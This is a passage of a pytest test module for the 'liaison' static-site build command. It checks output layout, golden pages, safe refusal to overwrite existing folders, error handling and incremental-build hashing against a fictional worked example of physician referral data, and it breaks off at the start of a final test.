"""The site-building stage (SPEC §5 `build`, §6 the site): behaviour of `build`, determinism,
links, security, and golden pages of the worked example.

Every build runs at the as-of date 2026-11-26. Expected values come from the SPEC, the worked
example's data files (tests/fixtures/spec-example-v2, the second edition's example) and its
expected-stats-2026-11-26.json, written out here by hand; never from liaison's own output
(except the golden files, which were read and checked against those sources when they were
accepted).

Golden files
------------
tests/golden/spec-example-v2/<path> holds the expected bytes of key pages of the worked example,
tests/fixtures/spec-example-v2 built at 2026-11-26 (the dashboard, the physician directory, a
physician brief, a practice brief, a liaison's call plan and the referral statistics). The
golden tests compare byte for byte. After an intended
change to those pages, rewrite them with

    LIAISON_UPDATE_GOLDEN=1 python3 -m pytest tests/test_build.py -k golden

then READ the diff (`git diff tests/golden`) and check it against the data before committing:
`test_key_pages_show_the_facts_of_the_example` states the facts each page must show, so a
rewritten golden file with wrong figures still fails there.
"""
from __future__ import annotations

import calendar
import csv
import datetime as dt
import io
import json
import os
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
import yaml
from click.testing import CliRunner

from conftest import REPO, SPEC_EXAMPLE, _make_writable, cli
from liaison.dates import month

AS_OF = "2026-11-26"
GOLDEN = Path(__file__).resolve().parent / "golden" / "spec-example-v2"
UPDATE_GOLDEN = os.environ.get("LIAISON_UPDATE_GOLDEN") == "1"
MARKER = ".liaison-site"
SUMMARY = re.compile(r"\b(\d+) pages\b.*\b\d+(?:\.\d+)? ?(?:s|ms|seconds)$")
DIAGNOSTIC = re.compile(r"^[^:\s]+:\d+:\d+: (error|warning): ")


# ------------------------------------------------------------------------------ helpers


def build(root: Path, out: Path | None = None, *extra: str) -> tuple[int, str, str]:
    args = ["build", "--root", str(root), "--as-of", AS_OF, *extra]
    if out is not None:
        args += ["--out", str(out)]
    return cli(*args)


def build_subprocess(root: Path, out: Path, cwd: Path, env_extra: dict | None = None,
                     as_of: str | None = AS_OF) -> subprocess.CompletedProcess:
    """`python build.py build` in a fresh interpreter, in the working directory ``cwd``."""
    env = {**os.environ, **(env_extra or {})}
    args = [sys.executable, str(REPO / "build.py"), "build", "--root", str(root), "--out", str(out)]
    if as_of:
        args += ["--as-of", as_of]
    proc = subprocess.run(args, cwd=cwd, env=env, capture_output=True, text=True, timeout=300)
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc


def snapshot(folder: Path) -> dict[str, bytes | None]:
    """Every file (bytes) and folder (None) under ``folder``, by '/'-separated relative path."""
    out: dict[str, bytes | None] = {}
    for p in sorted(folder.rglob("*")):
        rel = p.relative_to(folder).as_posix()
        out[rel] = None if p.is_dir() else p.read_bytes()
    return out


def assert_same_tree(a: dict, b: dict) -> None:
    assert sorted(a) == sorted(b), "the two builds hold different files"
    differ = [rel for rel in a if a[rel] != b[rel]]
    assert not differ, f"files that differ between the two builds: {differ}"


def copy_site(src: Path, dest: Path) -> Path:
    shutil.copytree(src, dest, ignore=shutil.ignore_patterns("site", ".git", "__pycache__"))
    _make_writable(dest)
    return dest


def stems(folder: Path, *exts: str) -> list[str]:
    return sorted(p.stem for p in folder.iterdir() if p.suffix in exts and p.name != "README.md")


def html_files(out: Path) -> list[Path]:
    return sorted(out.rglob("*.html"))


class Page(HTMLParser):
    """Start tags (name, attrs) and ids of one HTML page; attribute values are unescaped."""

    def __init__(self, text: str, iso_dates: bool = False):
        """``iso_dates``: the text of a ``<time datetime="YYYY-MM-DD">`` element is its ISO
        date ("Thu 26 Nov" and "4 weeks ago" are liaison.dates' forms of it)."""
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.ids: set[str] = set()
        self.text_parts: list[str] = []
        self.iso_dates, self.in_time = iso_dates, False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        for k, v in attrs:
            if k == "id" and v is not None:
                self.ids.add(v)
        if self.iso_dates and tag == "time" and dict(attrs).get("datetime"):
            self.text_parts.append(dict(attrs)["datetime"])
            self.in_time = True

    def handle_endtag(self, tag):
        if tag == "time":
            self.in_time = False

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        if not self.in_time:
            self.text_parts.append(data)

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", " ".join(self.text_parts))


def page_tags(out: Path):
    """Each start tag of each page built into ``out``: (the page's path below ``out``, tag,
    attributes)."""
    for path in html_files(out):
        for tag, attrs in Page(path.read_text(encoding="utf-8")).tags:
            yield path.relative_to(out), tag, attrs


@pytest.fixture(scope="module")
def module_cache(tmp_path_factory):
    """A private parse cache for the module-scoped builds."""
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("LIAISON_CACHE_DIR", str(tmp_path_factory.mktemp("liaison-cache")))
        yield


def built_once(tmp_path_factory, folder: str, root: Path) -> tuple[int, str, str, Path]:
    """``root`` built into a new temporary folder named after ``folder``, which must succeed:
    (exit code, stdout, stderr, output folder)."""
    out = tmp_path_factory.mktemp(folder) / "site"
    code, stdout, stderr = build(root, out)
    assert code == 0, stderr
    return code, stdout, stderr, out


@pytest.fixture(scope="module")
def example_build(tmp_path_factory, module_cache):
    """The worked example built once: (exit code, stdout, stderr, output folder)."""
    return built_once(tmp_path_factory, "example-build", SPEC_EXAMPLE)


@pytest.fixture(scope="module")
def golden_build(tmp_path_factory, module_cache):
    """The worked example (the second edition's) built once at 2026-11-26, for the golden pages
    and the facts they must show: the output folder."""
    return built_once(tmp_path_factory, "golden-build", SPEC_EXAMPLE)[3]


@pytest.fixture(scope="module")
def sample_build(tmp_path_factory, module_cache):
    """The repository's own sample site built once into a temporary folder."""
    return built_once(tmp_path_factory, "sample-build", REPO)[3]


def with_error(root: Path) -> None:
    """Make a valid copy of the example invalid: a referral naming an unknown service."""
    with open(root / "data/referrals/2026-10-to-11.csv", "a", encoding="utf-8") as fh:
        fh.write("web,2026-11-20,,no-such-service,\n")


# ---------------------------------------------------------------------- 1. build behaviour


def test_build_exits_0_and_prints_a_one_line_summary(example_build):
    code, stdout, stderr, out = example_build
    assert code == 0
    assert stdout == ""
    lines = stderr.splitlines()
    # the example's four warnings (SPEC §3; its README): an interaction and a referral after
    # 2026-11-26, a listed physician not at the interaction's practice, ruth-kessler over the
    # compliance limit; then the summary: nothing else
    others = [line for line in lines if not DIAGNOSTIC.match(line)]
    assert len([line for line in lines if DIAGNOSTIC.match(line)]) == 4, stderr
    assert len(others) == 1, stderr
    m = SUMMARY.search(others[0])
    assert m, f"not a one-line summary (pages, time): {others[0]!r}"
    assert int(m.group(1)) == len(html_files(out))
    files = re.search(r"\b(\d+) files\b", others[0])
    if files:
        assert int(files.group(1)) == sum(1 for p in out.rglob("*") if p.is_file())


def test_build_output_layout(example_build):
    out = example_build[3]
    phys = stems(SPEC_EXAMPLE / "data/physicians", ".yaml", ".yml")
    practices = stems(SPEC_EXAMPLE / "data/practices", ".yaml", ".yml")
    team = stems(SPEC_EXAMPLE / "data/team", ".yaml", ".yml")
    guides = stems(SPEC_EXAMPLE / "content/training", ".md")
    assert len(phys) == 6 and len(practices) == 3 and team == ["lena-brooks", "owen-price"]
    expected = [
        "index.html", "physicians/index.html", "practices/index.html", "team/index.html",
        "activity/index.html", "follow-ups/index.html", "referrals/index.html",
        "training/index.html", "presentations/index.html",
        *[f"physicians/{p}/index.html" for p in phys],
        *[f"practices/{p}/index.html" for p in practices],
        *[f"team/{t}/index.html" for t in team],
        *[f"training/{g}/index.html" for g in guides],
        # venous-basics.md: targets [mountain-view-family-medicine, hendersonville-womens-health]
        "presentations/venous-basics/index.html",
        "presentations/venous-basics/mountain-view-family-medicine/index.html",
        "presentations/venous-basics/hendersonville-womens-health/index.html",
        "stats.json", "exports/physicians.csv", "exports/practices.csv",
        "exports/interactions.csv",
        "exports/referrals-by-month.csv", "calendar.ics", "calendar/lena-brooks.ics",
        "robots.txt", "assets/style.css", "assets/app.js", MARKER,
    ]
    missing = [rel for rel in expected if not (out / rel).is_file()]
    assert not missing, missing
    # a deck is customized only for its targets
    assert not (out / "presentations/venous-basics/french-broad-podiatry").exists()
    robots = (out / "robots.txt").read_text(encoding="utf-8").splitlines()
    assert "Disallow: /" in robots and "User-agent: *" in robots
    assert (out / "assets/style.css").stat().st_size > 0
    assert (out / "calendar.ics").read_bytes().startswith(b"BEGIN:VCALENDAR")
    assert (out / "calendar/lena-brooks.ics").read_bytes().startswith(b"BEGIN:VCALENDAR")
    header = (out / "exports/physicians.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert header.startswith("id,name,")


def test_the_output_paths_are_the_files_the_build_writes(sample_build):
    """render.output_paths, which a guide's links are checked against (a deck's .pptx, the
    exports, the calendars), lists every file the build writes and no other, none made."""
    from liaison import pages
    from liaison.pipeline import check
    from liaison.render import output_paths

    checked = check(REPO, dt.date.fromisoformat(AS_OF), keep_records=True)
    listed = output_paths(pages.SiteView(checked.site, checked.stats, checked.stats.as_of), checked.stats)
    written = {p.relative_to(sample_build).as_posix() for p in sample_build.rglob("*") if p.is_file()}
    written -= {MARKER, ".liaison-build.json"}  # the build's own
    assert any(p.endswith(".pptx") for p in listed) and "calendar.ics" in listed
    assert listed == written


def test_a_guides_link_to_a_part_of_another_page_that_it_lacks_is_a_warning(example_site, tmp_path):
    """[coverage](../../team/index.html#nope): a part of another page of the site was never
    checked (only a guide's own headings were), so a misspelt id led to the page's top in
    silence. build, which renders the pages with every record, warns at the link; a part the
    page has, and the filters' state (#physician-table=status%20lapsed), are no warning."""
    guide = sorted((example_site / "content" / "training").glob("*.md"))[0]
    rel = f"content/training/{guide.name}"
    text = guide.read_text(encoding="utf-8")
    line = text.count("\n") + 1
    guide.write_text(text + "[a](../../team/index.html#nope-not-here) [b](../../index.html#main) "
                     "[c](../../physicians/index.html#physician-table=status%20lapsed)\n", encoding="utf-8")
    code, _stdout, stderr = build(example_site, tmp_path / "out")
    assert code == 0, stderr
    said = [w for w in stderr.splitlines() if w.startswith(rel)]
    assert said == [f"{rel}:{line}:1: warning: link to '../../team/index.html#nope-not-here': no part "
                    "'nope-not-here' on the page 'team/index.html' (a part is an id of the page)"], stderr


def test_stats_json_is_the_stats_command_output_byte_for_byte(example_build):
    out = example_build[3]
    code, stdout, _stderr = cli("stats", "--root", str(SPEC_EXAMPLE), "--as-of", AS_OF, "--json")
    assert code == 0
    assert (out / "stats.json").read_bytes() == stdout.encode("utf-8")
    expected = json.loads((SPEC_EXAMPLE / "expected-stats-2026-11-26.json").read_text())
    assert json.loads((out / "stats.json").read_text(encoding="utf-8")) == expected


def test_customized_decks_have_their_pptx_beside_them(example_build):
    """SPEC §6: presentations/<deck>/<practice>/ holds the customized deck 'with its .pptx
    beside it': one slide per slide (venous-basics.md has 3), speaker notes in the notes pane."""
    out = example_build[3]
    for practice, name in (("mountain-view-family-medicine", "Mountain View Family Medicine"),
                           ("hendersonville-womens-health", "Hendersonville Women's Health")):
        folder = out / "presentations/venous-basics" / practice
        pptx = sorted(folder.glob("*.pptx"))
        assert len(pptx) == 1, f"no .pptx in {folder.relative_to(out)}"
        assert pptx[0].read_bytes()[:2] == b"PK"  # a .pptx is a zip
        page = (folder / "index.html").read_text(encoding="utf-8")
        assert f'href="{pptx[0].name}"' in page, "the deck page links to its .pptx"
        presentation = pytest.importorskip("pptx").Presentation(str(pptx[0]))
        slides = list(presentation.slides)
        assert len(slides) == 3
        texts = [" ".join(sh.text_frame.text for sh in s.shapes if sh.has_text_frame)
                 for s in slides]
        assert name in texts[0] and "When to refer" in texts[1]
        assert "Thank the team for their time" in slides[0].notes_slide.notes_text_frame.text
        assert "Hand out the referral criteria card." in \
            slides[1].notes_slide.notes_text_frame.text


def test_data_with_errors_exits_1_and_writes_nothing(example_site, tmp_path):
    with_error(example_site)
    out = tmp_path / "nested" / "out"
    code, stdout, stderr = build(example_site, out)
    assert code == 1
    assert "data/referrals/2026-10-to-11.csv:13:1: error:" in stderr
    assert not out.exists()
    assert not out.parent.exists(), "not even the parent folder is created"
    # and the default output folder is not created inside the root either
    code, _o, _e = build(example_site)
    assert code == 1
    assert not (example_site / "site").exists()


def test_data_with_errors_leaves_the_previous_site_untouched(example_site, tmp_path):
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    before = snapshot(out)
    parent_before = sorted(p.name for p in tmp_path.iterdir())
    with_error(example_site)
    code, _stdout, stderr = build(example_site, out)
    assert code == 1, stderr
    assert_same_tree(before, snapshot(out))
    assert sorted(p.name for p in tmp_path.iterdir()) == parent_before, "no leftover folders"


def test_data_with_errors_removes_the_spare_made_of_the_previous_site_meanwhile(example_site,
                                                                             tmp_path):
    """While the records are read, a process lists the site in place and makes a spare of it
    (hard links beside it) for the build to write into; a build that then stops on an error
    in the data removes it: it leaves nothing beside the output folder."""
    import time

    from liaison import pipeline
    from liaison.errors import DataErrors

    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    before = snapshot(out)
    with_error(example_site)
    seen = []

    def wait_for_the_spare(checked):  # (the listing works at the lowest priority)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not seen:
            seen.extend(p.name for p in tmp_path.iterdir()
                        if p.name.startswith(".out.old-") and (p / ".liaison-spare").is_file())
            time.sleep(0.05)

    with pytest.raises(DataErrors):
        pipeline.build(example_site, AS_OF, out, on_checked=wait_for_the_spare)
    assert seen, "the listing made a spare of the site in place"
    assert_same_tree(before, snapshot(out))
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "site"], "no spare left"


def test_strict_turns_the_examples_warnings_into_errors_and_writes_nothing(tmp_path):
    out = tmp_path / "out"
    code, _stdout, stderr = build(SPEC_EXAMPLE, out, "--strict")
    assert code == 1
    # the example's four warnings (see test_build_exits_0_and_prints_a_one_line_summary)
    assert stderr.count(": error: ") == 4 and ": warning: " not in stderr
    assert not out.exists()


def test_refuses_a_non_empty_folder_it_did_not_create(tmp_path):
    out = tmp_path / "precious"
    (out / "sub").mkdir(parents=True)
    (out / "notes.txt").write_text("my notes\n")
    (out / "sub" / "index.html").write_text("<p>my page</p>\n")
    before = snapshot(out)
    parent_before = sorted(p.name for p in tmp_path.iterdir())
    code, _stdout, stderr = build(SPEC_EXAMPLE, out)
    assert code == 1
    assert "refusing" in stderr and str(out) in stderr
    assert_same_tree(before, snapshot(out))
    assert sorted(p.name for p in tmp_path.iterdir()) == parent_before, "no leftover folders"


def test_refuses_a_file_as_output_and_says_what_to_give(tmp_path):
    out = tmp_path / "site"
    out.write_text("my notes\n")
    code, _stdout, stderr = build(SPEC_EXAMPLE, out)
    assert code == 1
    # it said only "it is a file, not a folder"
    assert (f"refusing to replace '{out}': it is a file, not a folder (give --out a new "
            "folder, or one that 'liaison build' made)") in stderr
    assert out.read_text() == "my notes\n"


def test_refuses_the_site_root_itself_as_output(example_site):
    before = snapshot(example_site)
    code, _stdout, stderr = build(example_site, example_site)
    assert code == 1 and "refusing" in stderr
    assert_same_tree(before, snapshot(example_site))


def test_an_empty_existing_folder_is_used(tmp_path):
    out = tmp_path / "empty"
    out.mkdir()
    code, _stdout, stderr = build(SPEC_EXAMPLE, out)
    assert code == 0, stderr
    assert (out / "index.html").is_file() and (out / MARKER).is_file()


def test_replaces_its_own_previous_output(example_site, tmp_path):
    extra = example_site / "data/physicians/zoe-extra.yaml"
    extra.write_text("name: Zoe Extra\nspecialty: Cardiology\npractice: french-broad-podiatry\n")
    out = tmp_path / "outs" / "out"
    assert build(example_site, out)[0] == 0
    assert (out / "physicians/zoe-extra/index.html").is_file()
    (out / "stray.txt").write_text("left by someone\n")
    extra.unlink()
    code, _stdout, stderr = build(example_site, out)
    assert code == 0, stderr
    assert not (out / "physicians/zoe-extra").exists(), "a page of a removed record survived"
    assert not (out / "stray.txt").exists()
    assert (out / "physicians/nina-vargas/index.html").is_file()
    # beside it, only the spare: the first site, kept to write the next build into
    beside = sorted(p.name for p in out.parent.iterdir())
    assert len(beside) == 2 and beside[1] == "out" and beside[0].startswith(".out.old-")
    spare = out.parent / beside[0]
    assert (spare / "physicians/zoe-extra/index.html").is_file()
    assert sorted(os.listdir(spare))[:3] == [".gitignore", ".liaison-build.json", ".liaison-spare"]
    assert (spare / ".gitignore").read_text().splitlines()[-1] == "*", "git does not list it"
    # the result is the same as a build into a fresh folder
    fresh = tmp_path / "fresh"
    assert build(example_site, fresh)[0] == 0
    assert_same_tree(snapshot(out), snapshot(fresh))
    # and so is the next one, written into the spare: what the first site held and this one
    # does not (a removed physician's page and folder, a stray file) is gone from it
    spare_inode = spare.stat().st_ino
    code, _stdout, stderr = build(example_site, out, "--full")
    assert code == 0, stderr
    assert out.stat().st_ino == spare_inode, "the build wrote into the spare"
    assert_same_tree(snapshot(out), snapshot(fresh))
    beside = sorted(p.name for p in out.parent.iterdir())
    assert len(beside) == 2 and beside[1] == "out" and beside[0].startswith(".out.old-")


def _files_and_times(out: Path) -> dict[str, tuple[int, int]]:
    return {p.relative_to(out).as_posix(): (p.stat().st_ino, p.stat().st_mtime_ns)
            for p in sorted(out.rglob("*"))}


def test_a_build_with_nothing_changed_writes_nothing_and_says_so(example_site, tmp_path):
    out = tmp_path / "out"
    code, _o, first = build(example_site, out)
    assert code == 0, first
    warnings = [line for line in first.splitlines() if DIAGNOSTIC.match(line)]
    assert warnings, "the worked example has warnings: they are said again below"
    before = _files_and_times(out)
    record = json.loads((out / ".liaison-build.json").read_text())
    assert record["as_of"] == AS_OF and record["pages"] == int(SUMMARY.search(first).group(1))
    assert "data/physicians/nina-vargas.yaml" in record["inputs"]
    code, _o, second = build(example_site, out)
    assert code == 0, second
    assert _files_and_times(out) == before, "nothing is written, not even the same bytes"
    assert [line for line in second.splitlines() if DIAGNOSTIC.match(line)] == warnings
    assert second.splitlines()[-1].startswith(f"up to date: nothing changed since the site in {out}")
    assert f"({record['pages']} pages, {record['files']} files, {len(warnings)} warning" in second
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")] == []


def test_a_build_with_strict_or_another_code_is_not_up_to_date(example_site, tmp_path,
                                                                monkeypatch):
    """The record holds the settings and the code it was built with: ``--strict`` after a
    build without it checks again (the example's warnings are errors, exit 1: CI that adds
    --strict is not told "up to date"), and a build by another version of Liaison renders
    the site again."""
    from liaison import buildrecord

    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    code, _o, stderr = build(example_site, out, "--strict")
    assert code == 1 and "up to date" not in stderr, stderr
    assert stderr.count(": error: ") == 4 and ": warning: " not in stderr
    assert (out / "index.html").is_file(), "the previous site is untouched"
    monkeypatch.setattr(buildrecord, "code_fingerprint", lambda: "another version")
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" not in stderr, stderr
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" in stderr, stderr


def test_a_record_that_cannot_be_trusted_makes_a_full_build_not_a_traceback(
        example_site, tmp_path, monkeypatch):
    """A record that is JSON but not an object (damaged by hand) is no record: the next build
    renders everything again, as a fresh build. A site whose files cannot be listed (a folder
    of it unreadable) does not hold the files its record lists: nothing is taken from it."""
    from liaison import buildrecord

    out, fresh = tmp_path / "out", tmp_path / "fresh"
    assert build(example_site, out)[0] == 0
    assert build(example_site, fresh)[0] == 0
    (out / buildrecord.NAME).write_text("[]\n")
    assert buildrecord.read(out) is None
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" not in stderr, stderr
    assert_same_tree(snapshot(out), snapshot(fresh))

    as_of = dt.date.fromisoformat(AS_OF)
    assert buildrecord.previous(out, as_of, False) is not None

    def unreadable(folder, own):
        raise PermissionError(13, "Permission denied", str(folder))

    monkeypatch.setattr(buildrecord, "folder_files", unreadable)
    assert buildrecord.previous(out, as_of, False) is None
    assert buildrecord.up_to_date(out, example_site, as_of, False)[0] is None


def test_hashes_taken_beforehand_are_completed_and_their_signatures_given(example_site,
                                                                          tmp_path):
    """``up_to_date`` with the hashes the command started beforehand (``hashed``): made while
    the output held no record, they leave the files the load reads to it; a record written
    since (another build) is compared with them completed, and the signatures they took are
    given to the build's later steps (``stats``)."""
    from liaison import buildrecord

    out = tmp_path / "out"
    early = buildrecord.hashed_inputs(example_site, out)  # no record yet: files left
    assert early[0]["data/physicians/nina-vargas.yaml"] is None
    assert build(example_site, out)[0] == 0
    stats: dict = {}
    record, hashes = buildrecord.up_to_date(out, example_site, dt.date.fromisoformat(AS_OF),
                                            False, stats, hashed=lambda: early)
    assert record is not None and None not in hashes.values()
    doc = example_site / "data/physicians/nina-vargas.yaml"
    assert stats["data/physicians/nina-vargas.yaml"] == buildrecord.signature_of(os.stat(doc))


def test_a_folder_that_cannot_be_listed_is_an_input_of_its_own(example_site, tmp_path,
                                                                monkeypatch):
    """An input folder that cannot be listed (its permissions taken away) is hashed as
    "unreadable" at its path: even an empty one changes the inputs, so the build is not
    "up to date" and the load reports it."""
    from liaison import buildrecord

    (example_site / "data" / "physicians" / "retired").mkdir()
    before = buildrecord.inputs(example_site, tmp_path / "out")
    assert "data/physicians/retired" not in before
    scandir = os.scandir

    def refused(path):
        if str(path).endswith("retired"):
            raise PermissionError(13, "Permission denied", str(path))
        return scandir(path)

    monkeypatch.setattr(os, "scandir", refused)
    after = buildrecord.inputs(example_site, tmp_path / "out")
    assert after["data/physicians/retired"] == "unreadable"
    assert {k: v for k, v in after.items() if k != "data/physicians/retired"} == before


def test_files_beside_the_inputs_change_nothing(example_site, tmp_path):
    """The inputs are site.yaml, data/, content/ and templates/: a file or folder beside them
    at the site root (a README, notes, a git folder) is not hashed, and the build after one
    is written is still "up to date"."""
    from liaison import buildrecord

    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    (example_site / "NOTES.md").write_text("call Dr. Vargas back\n")
    (example_site / "drafts").mkdir()
    (example_site / "drafts" / "x.yaml").write_text("name: Draft\n")
    assert sorted(buildrecord.inputs(example_site, out)) == sorted(
        json.loads((out / ".liaison-build.json").read_text())["inputs"])
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" in stderr, stderr


def test_a_page_edited_by_hand_is_built_again_with_nothing_else_changed(example_site, tmp_path):
    """The record lists the files the build wrote with their sizes: a page shortened or
    lengthened by hand is not the site the record describes, so the next build is not
    "up to date" and puts the page back as a fresh build writes it."""
    out, fresh = tmp_path / "out", tmp_path / "fresh"
    assert build(example_site, out)[0] == 0
    assert build(example_site, fresh)[0] == 0
    page = out / "physicians/nina-vargas/index.html"
    page.write_bytes(page.read_bytes() + b"<!-- edited by hand -->")
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" not in stderr, stderr
    assert_same_tree(snapshot(out), snapshot(fresh))


def test_an_unchanged_input_file_is_not_read_again_and_an_edit_of_the_same_size_is_seen(
        example_site, tmp_path, monkeypatch, _private_parse_cache):
    """The build's check of its inputs reads again only the files whose size, times or inode
    moved since they were hashed (kept outside the site: the record stays the same bytes);
    an edit that keeps the size and puts the modification time back is still seen, since the
    change time moves; a file changed a moment ago is hashed again next time."""
    from liaison import buildrecord

    monkeypatch.setattr(buildrecord, "RACY_NS", 0)  # the files were all just written
    out = tmp_path / "out"
    assert build(example_site, out)[0] == 0
    store = next(_private_parse_cache.glob("inputs-*.json"))
    known = json.loads(store.read_text())["files"]
    assert "data/physicians/nina-vargas.yaml" in known
    assert not any(rel.startswith(("out/", "site/")) for rel in known)
    read = []
    real_digest = buildrecord.digest
    monkeypatch.setattr(buildrecord, "digest", lambda data: read.append(data) or real_digest(data))
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" in stderr
    assert len(read) == 1, "only the list of the site's files was hashed, no input file"

    doc = example_site / "data" / "physicians" / "nina-vargas.yaml"
    text, st = doc.read_text(), doc.stat()
    edited = text.replace("Nina", "Nena", 1)
    assert edited != text and len(edited) == len(text)
    doc.write_text(edited)
    os.utime(doc, ns=(st.st_atime_ns, st.st_mtime_ns))  # the modification time put back
    read.clear()
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" not in stderr, stderr
    assert b"Nena" in (out / "physicians/nina-vargas/index.html").read_bytes()

    monkeypatch.setattr(buildrecord, "RACY_NS", 3_600 * 10**9)  # everything is recent
    buildrecord.inputs(example_site, out)
    assert json.loads(store.read_text())["files"] == {}, "a recent file's signature is not kept"


def test_a_signature_taken_within_two_seconds_of_a_files_change_is_not_kept(
        example_site, tmp_path, monkeypatch, _private_parse_cache):
    """A file whose modification or change time lies within the last two seconds may change
    again within the same tick of the file system's clock: its signature is not kept, so
    the next build hashes it again; an older modification time put back by hand does not
    make a file just written settled (its change time is now)."""
    import time

    from liaison import buildrecord

    def kept() -> dict:
        store = next(_private_parse_cache.glob("inputs-*.json"), None)
        return {} if store is None else json.loads(store.read_text())["files"]

    doc = example_site / "data/physicians/nina-vargas.yaml"
    year_ago = time.time_ns() - 365 * 86_400 * 10**9
    os.utime(doc, ns=(year_ago, year_ago))
    buildrecord.inputs(example_site, tmp_path / "out")  # (every file copied a moment ago)
    assert "data/physicians/nina-vargas.yaml" not in kept()
    assert "site.yaml" not in kept()
    now = time.time_ns()
    monkeypatch.setattr(time, "time_ns", lambda: now + 3 * 10**9)  # three seconds later
    buildrecord.inputs(example_site, tmp_path / "out")
    assert kept()["data/physicians/nina-vargas.yaml"][:2] == [doc.stat().st_size, year_ago]
    assert "site.yaml" in kept()


def test_the_signatures_kept_after_complete_are_those_of_the_files_as_they_are_now(
        example_site, monkeypatch, _private_parse_cache):
    """The kept signatures are written again once ``Hashes.complete`` has hashed the files
    left to it: a new file left to the load is kept even when nothing else changed, and
    when every file turned recent none is kept any more, left or not."""
    from liaison import buildrecord

    def kept() -> dict:
        return json.loads(next(_private_parse_cache.glob("inputs-*.json")).read_text())["files"]

    out = example_site / "site"
    monkeypatch.setattr(buildrecord, "RACY_NS", 0)  # every file settled
    buildrecord.inputs(example_site, out)
    assert "data/physicians/nina-vargas.yaml" in kept()
    new = example_site / "data/physicians/zed-new.yaml"
    new.write_text("name: Zed New\nspecialty: Cardiology\npractice: french-broad-podiatry\n")
    hashes = buildrecord.inputs(example_site, out, leave=buildrecord.read_by_the_load)
    assert hashes["data/physicians/zed-new.yaml"] is None
    hashes.complete(example_site)
    assert kept()["data/physicians/zed-new.yaml"][-1] == buildrecord.digest(new.read_bytes())

    monkeypatch.setattr(buildrecord, "RACY_NS", 3_600 * 10**9)  # every file recent
    new.write_text("name: Zed Newer\nspecialty: Cardiology\npractice: french-broad-podiatry\n")
    hashes = buildrecord.inputs(example_site, out, leave=buildrecord.read_by_the_load)
    assert hashes["data/physicians/zed-new.yaml"] is None
    hashes.complete(example_site)
    assert kept() == {}


def test_a_first_build_hashes_the_files_the_load_read_from_those_bytes_not_reading_them_again(
        example_site, tmp_path, monkeypatch, _private_parse_cache):
    """With no record in the output folder, the hashing leaves the records' files to the load
    (they are read once): the record and the kept signatures are those of a hashing that
    reads every file, and a file the load did not read whole is read by ``complete``."""
    from liaison import buildrecord
    from liaison.cache import ParseCache
    from liaison.parse import Loader

    monkeypatch.setattr(buildrecord, "RACY_NS", 0)  # the files were all just written
    hashed = []
    real_digest = buildrecord.digest
    monkeypatch.setattr(buildrecord, "digest", lambda data: hashed.append(data) or real_digest(data))
    out = tmp_path / "out"
    hashes, stats = buildrecord.hashed_inputs(example_site, out)
    left = {rel for rel, value in hashes.items() if value is None}
    assert "data/physicians/nina-vargas.yaml" in left and "site.yaml" in left
    assert "content/training/referral-source-basics.md" in left, "a guide is read by the load"
    assert not any(rel.startswith("templates/") or rel.endswith(".csv") for rel in left)
    assert len(hashed) == len(hashes) - len(left), "a file left is not read"
    assert set(stats) == set(hashes), "every file's signature is taken, left or not"

    # the load's reading gives the hashes of the files it read whole
    cache = ParseCache(None)
    cache.digests = {}
    loader = Loader(example_site, cache)
    assert loader.read_bytes("data/physicians/nina-vargas.yaml") is not None
    assert loader.read_bytes("site.yaml") is not None
    store = next(_private_parse_cache.glob("inputs-*.json"), None)
    assert store is None, "the signatures are kept once the hashes are complete"
    before = len(hashed)
    complete = hashes.complete(example_site, cache.digests)
    assert complete is hashes and None not in hashes.values() and hashes.left is None
    assert len(hashed) - before == len(left - set(cache.digests)) == len(left) - 2, \
        "only the files left that the load did not read are read"
    monkeypatch.setenv("LIAISON_CACHE_DIR", str(tmp_path / "another-cache"))
    read_twice = buildrecord.inputs(example_site, out)  # every file read
    assert hashes == read_twice
    monkeypatch.setenv("LIAISON_CACHE_DIR", str(_private_parse_cache))
    known = json.loads(next(_private_parse_cache.glob("inputs-*.json")).read_text())["files"]
    assert set(known) == set(hashes) and all(known[rel][-1] == hashes[rel] for rel in known)
    assert all(known[rel][:4] == list(stats[rel][:4]) for rel in known), "size, times, inode"

    # a whole build from nothing: the record holds what reading every file gives
    shutil.rmtree(_private_parse_cache)
    _private_parse_cache.mkdir()
    completed = []
    real_complete = buildrecord.Hashes.complete

    def complete(self, root, digests=None):
        if self.left is not None:
            completed.append((set(self.left[2]), set(digests or ())))
        return real_complete(self, root, digests)

    monkeypatch.setattr(buildrecord.Hashes, "complete", complete)
    assert build(example_site, out)[0] == 0
    [(left, from_the_load)] = completed
    assert "data/physicians/nina-vargas.yaml" in left and left <= from_the_load, \
        "every file left was hashed from the bytes the load read"
    record = json.loads((out / buildrecord.NAME).read_text())
    assert record["inputs"] == read_twice
    known = json.loads(next(_private_parse_cache.glob("inputs-*.json")).read_text())["files"]
    assert set(known) == set(read_twice)
    code, _o, stderr = build(example_site, out)
    assert code == 0 and "up to date" in stderr
    # a record in the folder: nothing is left, the hashes are compared first
    hashes, _stats = buildrecord.hashed_inputs(example_site, out)
    assert hashes.left is None and None not in hashes.values()


def test_a_full_build_hashes_the_files_the_load_read_from_those_bytes_even_with_a_record(
        example_site, tmp_path, monkeypatch):
